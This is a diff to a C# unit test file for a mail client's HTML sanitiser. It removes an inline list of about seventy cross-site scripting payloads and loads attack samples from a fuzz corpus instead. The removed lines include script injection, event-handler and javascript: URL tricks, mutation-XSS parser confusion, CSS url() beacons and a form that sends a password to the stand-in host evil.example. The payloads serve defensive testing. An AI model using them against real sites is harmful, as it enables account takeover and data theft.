@@ -1,5 +1,6 @@
 using System.Text.RegularExpressions;
 using MailFunctions.Inbox;
+using MailFunctions.Tests.Fuzz;
 
 namespace MailFunctions.Tests.Inbox;
 
@@ -7,76 +8,7 @@ public sealed partial class HtmlCleanerTests
 {
     private static readonly Dictionary<string, string> NoPictures = [];
 
-    public static TheoryData<string> Attacks => new(
-        "<script>alert(1)</script>",
-        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
-        "<scr<script>ipt>alert(1)</scr</script>ipt>",
-        "<script>alert(1)",
-        "<img src=x onerror=alert(1)>",
-        "<img src='x' onerror\n=\nalert(1)>",
-        "<img/src='x'/onerror=alert(1)>",
-        "<img src=\"javascript:alert(1)\">",
-        "<img src=\" \u0001javascript:alert(1)\">",
-        "<img src=`javascript:alert(1)`>",
-        "<img \"\"\"><script>alert(1)</script>\">",
-        "<img src=data:text/html;base64,PHNjcmlwdD4=>",
-        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
-        "<img srcset='http://evil.example/1 1x' src=''>",
-        "<picture><source srcset='http://evil.example/1'><img src=y></picture>",
-        "<a href=\"javascript:alert(1)\">x</a>",
-        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
-        "<a href=\"&#106;avascript:alert(1)\">x</a>",
-        "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
-        "<a href=\"vbscript:msgbox(1)\">x</a>",
-        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-        "<a href='file:///etc/passwd'>x</a>",
-        "<a href='/api/accounts'>x</a>",
-        "<a href='//evil.example/' onclick=alert(1)>x</a>",
-        "<a href='http://ok.example' ping='http://evil.example' style='position:fixed;top:0'>x</a>",
-        "<svg onload=alert(1)>",
-        "<svg><script>alert(1)</script></svg>",
-        "<svg><style><img src=x onerror=alert(1)></style></svg>",
-        "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>",
-        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
-        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-        "<template><script>alert(1)</script></template>",
-        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
-        "<textarea><script>alert(1)</script></textarea>",
-        "<title><img src=x onerror=alert(1)></title>",
-        "<iframe src=javascript:alert(1)></iframe>",
-        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-        "<object data=javascript:alert(1)></object>",
-        "<embed src=http://evil.example/x.swf>",
-        "<applet code=x></applet>",
-        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-        "<base href=http://evil.example/>",
-        "<link rel=stylesheet href=http://evil.example/x.css>",
-        "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example)}</style>",
-        "<div style=\"background:url(http://evil.example/x)\">x</div>",
-        "<div style=\"background-image:u\\72l(http://evil.example/x)\">x</div>",
-        "<div style=\"width:expression(alert(1))\">x</div>",
-        "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#a)\">x</div>",
-        "<div style=\"list-style:url(http://evil.example);content:url(http://evil.example);cursor:url(http://evil.example),auto\">x</div>",
-        "<div style=\"position:fixed;inset:0;z-index:9999;opacity:0\">x</div>",
-        "<div style=\"font-family:'}</style><script>alert(1)</script>'\">x</div>",
-        "<div style=\"filter:url(http://evil.example#f);mask:url(http://evil.example)\">x</div>",
-        "<form action=http://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
-        "<input type=image src=http://evil.example onfocus=alert(1) autofocus>",
-        "<video poster=http://evil.example><source onerror=alert(1)></video>",
-        "<audio src=http://evil.example onplay=alert(1) autoplay>",
-        "<table background=http://evil.example><td background=javascript:alert(1)>x</table>",
-        "<body onload=alert(1) background=http://evil.example>x",
-        "<marquee onstart=alert(1)>x</marquee>",
-        "<details open ontoggle=alert(1)>x</details>",
-        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-        "<![CDATA[<script>alert(1)</script>]]>",
-        "<?xml version='1.0'?><script>alert(1)</script>",
-        "<p id=location name=document class=portal-button>x</p>",
-        "<a href='http://ok.example' target=_self rel=opener>x</a>",
-        "<div data-blocked-src=http://evil.example contenteditable accesskey=x>x</div>",
-        "\0<scr\0ipt>alert(1)</script>");
+    public static TheoryData<string> Attacks { get; } = new(Corpus.Files("html", "attack-*").Select(File.ReadAllText));
 
     [Theory]
     [MemberData(nameof(Attacks))]
